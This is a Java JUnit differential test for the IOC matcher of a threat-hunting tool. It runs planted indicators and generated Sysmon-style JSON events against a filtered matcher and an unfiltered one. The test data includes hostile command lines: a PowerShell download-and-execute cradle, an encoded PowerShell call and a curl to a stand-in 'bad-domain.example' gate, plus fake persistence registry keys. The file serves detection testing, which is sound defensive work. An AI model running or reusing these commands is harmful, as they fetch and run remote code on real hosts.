package io.vigil.ioc;

import static org.assertj.core.api.Assertions.assertThat;

import io.vigil.core.diag.Diagnostic;
import io.vigil.core.event.Event;
import io.vigil.core.event.Provenance;
import io.vigil.ioc.load.CsvLoader;
import io.vigil.ioc.load.FeedLoader;
import io.vigil.normalize.Normalizer;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * The matcher with its {@link EncodedValueFilter} and field-name cache must report exactly what the
 * unfiltered reference ({@link IocMatcher#unfiltered}: every wanted value decoded, folded and looked
 * up) reports: same hits, same order, for every event.
 *
 * <p>Events are read the way {@code vigil hunt} reads flat JSON ({@link Normalizer#normalizeFlat}, string
 * values left encoded), each record afresh for each matcher so that neither sees values the other
 * decoded, and once more with every value decoded before matching (the filter then reads Strings). They
 * are the OTRF corpus under {@code ../shared/corpus/json} and generated records carrying every
 * indicator type in upper case, escaped ({@code \\uXXXX}, {@code \/}), padded, quoted, embedded,
 * with non-ASCII characters that fold to ASCII, and as near misses. The feed is the built-in bundle
 * plus a CSV list of those indicators and of values sampled from the corpus, so that the corpus has
 * hits of every kind too.
 */
class IocPrefilterDifferentialTest {
    private static final Provenance WHERE = Provenance.line("differential", 1);

    // indicators planted in the generated records (and listed in the feed)
    private static final String MD5 = "0123456789abcdef0123456789abcdef";
    private static final String SHA256 = "ab".repeat(32);
    private static final String IMPHASH = "fedcba9876543210fedcba9876543210";
    private static final String[][] PLANTED = {
        {"md5", MD5},
        {"sha256", SHA256},
        {"imphash", IMPHASH},
        {"hash", "1111111111111111111111111111111111111111"},
        {"filename", "EvilPayload.dll"},
        {"filename", "Temp\\Obedience.exe"},
        {"filename", "C:\\Users\\Public\\stage.exe"},
        {"regkey", "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\EvilRun"},
        {"regkey", "HKCU\\Software\\Classes\\CLSID\\{0000-evil}\\InprocServer32"},
        {"regkey", "HKLM\\Software\\Evil"},
        // whole hives: reached only as the parent of a renamed hive's child (\REGISTRY\MACHINE\x, HKU\sid\x)
        {"regkey", "HKLM"},
        {"regkey", "HKCU"},
        {"regkey", "HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\EvilSvc"},
        {"domain", "bad-domain.example"},
        {"hostname", "exact.host.example"},
        {"ip-dst", "203.0.113.7"},
        {"ip", "198.51.100.0/24"},
        {"ip", "2001:db8::bad"},
        {"url", "http://bad-domain.example/gate.php"},
        {"named pipe", "\\\\.\\pipe\\evilpipe"},
        {"mutex", "Global\\EvilMutex"},
    };

    /** Matcher pairs (filtered, reference): all indicator kinds, and without URLs and IPv6 ranges. */
    private static final List<IocMatcher[]> MATCHERS = new ArrayList<>();

    private static Normalizer normalizer;

    @BeforeAll
    static void feeds() throws IOException {
        normalizer = Normalizer.standard();
        List<Diagnostic> problems = new ArrayList<>();
        IocSet builtin = FeedLoader.builtin(problems::add);
        StringBuilder csv = new StringBuilder("type\tvalue\n");
        for (String[] p : PLANTED) {
            csv.append(p[0]).append('\t').append(p[1]).append('\n');
        }
        for (String[] p : sampledFromCorpus()) {
            csv.append(p[0]).append('\t').append(p[1]).append('\n');
        }
        IocSet planted = CsvLoader.load("planted.tsv", csv.toString().getBytes(StandardCharsets.UTF_8), d -> {});
        assertThat(builtin.size()).as("built-in bundle").isGreaterThan(1000);
        assertThat(planted.size()).as("planted indicators").isGreaterThan(200);
        // free text is looked into only when the set holds neither URLs nor IPv6 ranges (as the built-in)
        IocSet.Builder narrower = IocSet.builder();
        for (Indicator i : planted.indicators()) {
            if (i.clauses().stream()
                    .flatMap(List::stream)
                    .noneMatch(c -> c.type() == IocType.URL || c.key().indexOf(':') >= 0)) {
                narrower.add(i);
            }
        }
        for (IocSet set :
                List.of(IocSet.merge(List.of(builtin, planted)), IocSet.merge(List.of(builtin, narrower.build())))) {
            MATCHERS.add(new IocMatcher[] {
                new IocMatcher(set, MatchOptions.defaults()), IocMatcher.unfiltered(set, MatchOptions.defaults())
            });
        }
    }

    @Test
    void otrfCorpusMatchesLikeTheUnfilteredPath() throws IOException {
        long events = 0;
        long hits = 0;
        Set<IocType> kinds = new java.util.TreeSet<>();
        for (Path file : corpusFiles()) {
            for (String line : Files.readAllLines(file, StandardCharsets.UTF_8)) {
                List<IocHit> expected = compare(line, file + ": " + abbreviated(line));
                if (expected != null) {
                    events++;
                    hits += expected.size();
                    expected.forEach(h -> kinds.add(h.comparison().type()));
                }
            }
        }
        assertThat(events).as("corpus events read").isGreaterThan(30_000);
        assertThat(hits).as("hits of the planted corpus values").isGreaterThan(1000);
        assertThat(kinds)
                .as("indicator kinds hit in the corpus")
                .contains(IocType.MD5, IocType.SHA256, IocType.FILENAME, IocType.REGKEY, IocType.DOMAIN);
    }

    @Test
    void generatedRecordsMatchLikeTheUnfilteredPath() {
        long hits = 0;
        int records = 0;
        for (String line : generatedRecords()) {
            List<IocHit> expected = compare(line, line);
            assertThat(expected).as("generated record is read flat: %s", line).isNotNull();
            hits += expected.size();
            records++;
        }
        assertThat(records).isGreaterThan(1000);
        assertThat(hits).as("generated records with a hit").isGreaterThan(records / 4);
    }

    /**
     * Each pair of matchers on fresh events of {@code line}; the reference hits (all pairs), or null if
     * the record is not read flat.
     */
    private static List<IocHit> compare(String line, String what) {
        List<IocHit> all = new ArrayList<>();
        for (IocMatcher[] pair : MATCHERS) {
            List<IocHit> hits = compare(pair[0], pair[1], line, what);
            if (hits == null) {
                return null;
            }
            all.addAll(hits);
        }
        return all;
    }

    private static List<IocHit> compare(IocMatcher fast, IocMatcher reference, String line, String what) {
        byte[] bytes = line.getBytes(StandardCharsets.UTF_8);
        Event forFast = normalizer.normalizeFlat(bytes, bytes.length, 8 << 20, 64, WHERE);
        Event forReference = normalizer.normalizeFlat(bytes.clone(), bytes.length, 8 << 20, 64, WHERE);
        if (forFast == null) {
            return null;
        }
        List<IocHit> expected = reference.match(forReference);
        assertThat(fast.match(forFast)).as(what).isEqualTo(expected);
        // as in a hunt, where rules decode some values first: the filter then reads Strings
        Event decodedFirst = normalizer.normalizeFlat(bytes.clone(), bytes.length, 8 << 20, 64, WHERE);
        for (int i = 0; i < decodedFirst.size(); i++) {
            decodedFirst.valueAt(i);
        }
        assertThat(fast.match(decodedFirst)).as("decoded first: %s", what).isEqualTo(expected);
        return expected;
    }

    private static String abbreviated(String line) {
        return line.length() > 300 ? line.substring(0, 300) + "..." : line;
    }

    // --- the generated records

    private static List<String> generatedRecords() {
        List<String[]> values = new ArrayList<>();
        String[] hashFields = {"Hashes", "md5", "sha256", "process.pe.imphash", "FileHash"};
        for (String f : hashFields) {
            values.add(new String[] {
                f, "SHA1=" + "22".repeat(20) + ",MD5=" + MD5 + ",SHA256=" + SHA256 + ",IMPHASH=" + IMPHASH
            });
            values.add(new String[] {f, MD5});
            values.add(new String[] {f, "md5=" + MD5 + "\tsha-256=" + SHA256});
            values.add(new String[] {f, "MD5=" + MD5.substring(1) + "0;IMPHASH=" + IMPHASH.replace('f', 'e')});
            values.add(new String[] {f, "1111111111111111111111111111111111111111"});
            values.add(new String[] {f, "garbage=" + MD5 + "=x"});
        }
        String[] pathFields = {"Image", "TargetFilename", "ImageLoaded", "ObjectName", "process.executable"};
        String[] paths = {
            "C:\\Windows\\System32\\evilpayload.dll",
            "C:\\Users\\bob\\AppData\\Local\\Temp\\Obedience.exe",
            "\"C:\\Users\\bob\\Temp\\obedience.exe\" -k netsvcs",
            "\"C:\\Users\\bob\\Temp\\obedience.exe",
            "C:\\Users\\bob\\Temp\\obedience.exe -k x",
            "C:\\Users\\bob\\Temp\\obedience.exe\\",
            "C:/Users/bob/Temp/obedience.exe",
            "  C:\\Users\\Public\\stage.exe\t",
            "C:\\Program Files\\app.exe run C:\\Users\\Public\\stage.exe",
            "\\\\?\\C:\\Users\\Public\\stage.exe",
            "C:\\Other\\obedience.exe",
            "evilpayload.dll",
            "\\",
            "\"\"",
            "C:\\Windows\\notepad.exe",
        };
        for (String f : pathFields) {
            for (String p : paths) {
                values.add(new String[] {f, p});
            }
        }
        String[] registryFields = {"TargetObject", "registry.path", "ObjectName", "NewName"};
        String[] keys = {
            "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\EvilRun",
            "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\EvilRun\\",
            "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\EvilRun\\(Default)",
            "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\EvilRun",
            "\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\EvilRun",
            "\\REGISTRY\\MACHINE\\SYSTEM\\CurrentControlSet\\Services\\EvilSvc",
            "\\REGISTRY\\MACHINE\\SYSTEM\\CurrentControlSet\\Services\\EvilSvc\\ImagePath",
            "HKLM\\System\\CurrentControlSet\\Services\\EvilSvc",
            "HKU\\S-1-5-21-1-2-3-1001\\Software\\Classes\\CLSID\\{0000-evil}\\InprocServer32",
            "HKU\\S-1-5-21-1-2-3-1001\\Software\\Classes\\CLSID\\{0000-evil}\\InprocServer32\\(Default)",
            "HKU\\S-1-5-21-1-2-3-1001_Classes\\CLSID\\{0000-evil}\\InprocServer32",
            "\\REGISTRY\\USER\\S-1-5-21-1\\Software\\Classes\\CLSID\\{0000-evil}\\InprocServer32",
            "HKLM/SOFTWARE/Microsoft/Windows/CurrentVersion/Run/EvilRun",
            "HKLM\\Software\\Evil",
            "\\REGISTRY\\MACHINE\\SOFTWARE",
            "\\REGISTRY\\USER\\S-1-5-21-1\\Software",
            "\\REGISTRY\\USER\\S-1-5-21-1\\Software\\Classes",
            "HKU\\S-1-5-21-1\\Software\\x\\y",
            "HKLM\\Software\\Evil\\Value",
            "HKLM\\Software\\Evil\\a\\b\\c\\d",
            "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\Other",
        };
        for (String f : registryFields) {
            for (String k : keys) {
                values.add(new String[] {f, k});
            }
        }
        String[] texts = {
            "curl.exe http://BAD-domain.example/gate.php?id=1",
            "nslookup sub.bad-domain.example",
            "ping -n 1 203.0.113.7",
            "ping 198.51.100.99 & ping 2001:db8::bad",
            "whoami /all",
            "powershell -enc AAAA",
            "iex (new-object net.webclient).downloadstring('https://bad-domain.example/x')",
            "exact.host.example:443",
            "start http://evil.exact.host.example & copy \\\\fs.bad-domain.example\\c$\\x .",
            "_.-sub.bad-domain.example-._ and 203.0.113.7. 198.51.100.250:80 x.y 1.2.3 a..bad-domain.example",
            "Get-Item C:\\Windows\\system32\\drivers\\etc\\hosts; Resolve-DnsName Bad-Domain.Example",
        };
        for (String f : new String[] {"CommandLine", "ScriptBlockText", "Payload", "Details"}) {
            for (String t : texts) {
                values.add(new String[] {f, t});
            }
        }
        String[][] others = {
            {"QueryName", "Sub.Bad-Domain.Example."},
            {"QueryName", "exact.host.example"},
            {"QueryName", "www.exact.host.example"},
            {"DestinationHostname", "203.0.113.7"},
            {"DestinationIp", "203.0.113.7"},
            {"SourceAddress", "::ffff:198.51.100.3"},
            {"IpAddress", "198.51.100.3:445"},
            {"url", "HTTP://bad-domain.example/gate.php#frag"},
            {"PipeName", "\\EvilPipe"},
            {"PipeName", "\\\\.\\pipe\\EVILPIPE"},
            {"mutex", "Sessions\\1\\BaseNamedObjects\\EvilMutex"},
        };
        values.addAll(List.of(others));
        List<String> lines = new ArrayList<>();
        for (String[] v : values) {
            for (Form form : Form.values()) {
                lines.add("{\"EventID\":1,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"" + v[0] + "\":\""
                        + form.encode(v[1]) + "\",\"Note\":\"x\"}");
            }
            // the value twice in one event, and beside a hash list
            lines.add("{\"EventID\":1,\"" + v[0] + "\":\"" + Form.PLAIN.encode(v[1]) + "\",\"CommandLine\":\""
                    + Form.PLAIN.encode(v[1]) + "\",\"Hashes\":\"MD5=" + MD5 + "\"}");
        }
        return lines;
    }

    /** Ways of writing a value in a JSON record. */
    private enum Form {
        PLAIN {
            @Override
            String transform(String v) {
                return v;
            }
        },
        UPPER {
            @Override
            String transform(String v) {
                return v.toUpperCase(Locale.ROOT);
            }
        },
        /** Kelvin sign for K and dotted capital I: non-ASCII that lower-cases to (or next to) ASCII. */
        FOLDS_TO_ASCII {
            @Override
            String transform(String v) {
                return v.toUpperCase(Locale.ROOT).replace('K', '\u212A').replace('I', '\u0130');
            }
        },
        NON_ASCII_SUFFIX {
            @Override
            String transform(String v) {
                return v + "\u00e9";
            }
        },
        PADDED {
            @Override
            String transform(String v) {
                return "\t " + v + " \n";
            }
        },
        /** Letters written as backslash-u escapes, slashes as backslash-slash. */
        LONG_ESCAPES {
            @Override
            String transform(String v) {
                return v;
            }

            @Override
            String encode(String v) {
                StringBuilder out = new StringBuilder();
                for (int i = 0; i < v.length(); i++) {
                    char c = v.charAt(i);
                    if (c == '/') {
                        out.append("\\/");
                    } else if (c >= 'a' && c <= 'f' || c == 'E' || c == 'X') {
                        out.append(String.format(Locale.ROOT, "\\u%04x", (int) c));
                    } else {
                        out.append(escape(c));
                    }
                }
                return out.toString();
            }
        };

        abstract String transform(String v);

        String encode(String v) {
            String t = transform(v);
            StringBuilder out = new StringBuilder();
            for (int i = 0; i < t.length(); i++) {
                out.append(escape(t.charAt(i)));
            }
            return out.toString();
        }

        static String escape(char c) {
            return switch (c) {
                case '"' -> "\\\"";
                case '\\' -> "\\\\";
                case '\t' -> "\\t";
                case '\n' -> "\\n";
                case '\r' -> "\\r";
                default -> c < 0x20 ? String.format(Locale.ROOT, "\\u%04x", (int) c) : String.valueOf(c);
            };
        }
    }

    // --- the corpus and the indicators sampled from it

    private static Path corpusRoot() {
        String configured = System.getProperty("vigil.shared");
        Path root = configured != null ? Path.of(configured) : Path.of("..", "..", "shared");
        Path json = root.resolve("corpus/json");
        assertThat(json)
                .as("../shared/corpus/json must exist (set -Dvigil.shared=...)")
                .isDirectory();
        return json;
    }

    private static List<Path> corpusFiles() throws IOException {
        try (Stream<Path> files = Files.walk(corpusRoot())) {
            List<Path> out =
                    files.filter(p -> p.toString().endsWith(".json")).sorted().toList();
            assertThat(out).as("OTRF JSON files").hasSizeGreaterThan(30);
            return out;
        }
    }

    /**
     * Every 7th distinct value (by hash) of fields that carry indicators, as CSV rows: so that the
     * corpus produces hits of each kind, and the rest stays near misses of the same shape.
     */
    private static List<String[]> sampledFromCorpus() throws IOException {
        Set<String> rows = new LinkedHashSet<>();
        for (Path file : corpusFiles()) {
            List<String> lines;
            try {
                lines = Files.readAllLines(file, StandardCharsets.UTF_8);
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
            for (String line : lines) {
                byte[] b = line.getBytes(StandardCharsets.UTF_8);
                Event e = normalizer.normalizeFlat(b, b.length, 8 << 20, 64, WHERE);
                if (e == null) {
                    continue;
                }
                sample(rows, "filename", basename(e.get("Image")));
                sample(rows, "filename", basename(e.get("ImageLoaded")));
                sample(rows, "filename", lastTwo(e.get("TargetFilename")));
                sample(rows, "regkey", e.get("TargetObject"));
                sample(rows, "regkey", parent(e.get("TargetObject")));
                sample(rows, "domain", e.get("QueryName"));
                sample(rows, "ip-dst", e.get("DestAddress"));
                sample(rows, "ip", e.get("SourceAddress"));
                sample(rows, "named pipe", e.get("PipeName"));
                if (e.get("Hashes") instanceof String hashes) {
                    for (String part : hashes.split(",")) {
                        int eq = part.indexOf('=');
                        if (eq > 0) {
                            sample(rows, part.substring(0, eq).toLowerCase(Locale.ROOT), part.substring(eq + 1));
                        }
                    }
                }
            }
        }
        List<String[]> out = new ArrayList<>();
        for (String row : rows) {
            out.add(row.split("\t", 2));
        }
        return out;
    }

    private static void sample(Set<String> rows, String type, Object value) {
        if (value instanceof String s && !s.isBlank() && s.indexOf('\t') < 0 && s.indexOf('\n') < 0) {
            String row = type + "\t" + s;
            if (Math.floorMod(row.hashCode(), 7) == 0) {
                rows.add(row);
            }
        }
    }

    private static String basename(Object path) {
        return path instanceof String p ? p.substring(p.lastIndexOf('\\') + 1) : null;
    }

    private static String lastTwo(Object path) {
        if (!(path instanceof String p)) {
            return null;
        }
        int last = p.lastIndexOf('\\');
        return last <= 0 ? p : p.substring(p.lastIndexOf('\\', last - 1) + 1);
    }

    private static String parent(Object key) {
        return key instanceof String k && k.lastIndexOf('\\') > 0 ? k.substring(0, k.lastIndexOf('\\')) : null;
    }
}
